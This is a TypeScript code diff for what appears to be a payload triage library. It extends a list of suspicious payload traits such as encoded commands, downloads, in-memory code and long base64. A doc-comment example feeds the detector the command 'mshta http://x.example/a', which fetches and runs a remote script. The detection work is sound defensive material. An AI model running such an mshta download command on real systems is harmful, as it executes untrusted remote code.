@@ -1,8 +1,16 @@
 /** Something in a payload that attacks have in common. */
 export interface Suspicion {
   /** What it looks like. */
-  readonly kind: 'script host' | 'encoded command' | 'download' | 'code in memory' | 'script object' | 'long base64';
-  /** The part of the payload that shows it. */
+  readonly kind:
+    | 'script host'
+    | 'encoded command'
+    | 'download'
+    | 'code in memory'
+    | 'script object'
+    | 'long base64'
+    | 'changed query'
+    | 'changed payload';
+  /** The part of the payload that shows it; of a change, how the value began before. */
   readonly found: string;
 }
 
@@ -31,7 +39,7 @@ const MOST_SHOWN = 40;
  * @returns a suspicion of each kind at most; none where nothing is found
  * @example
  * ```ts
- * import { suspicionsOf } from 'lib/exclusions';
+ * import { suspicionsOf } from 'lib/triage';
  * suspicionsOf('C:\\Tools\\agent.exe'); // []
  * suspicionsOf('mshta http://x.example/a')[0]?.kind; // 'script host'
  * ```
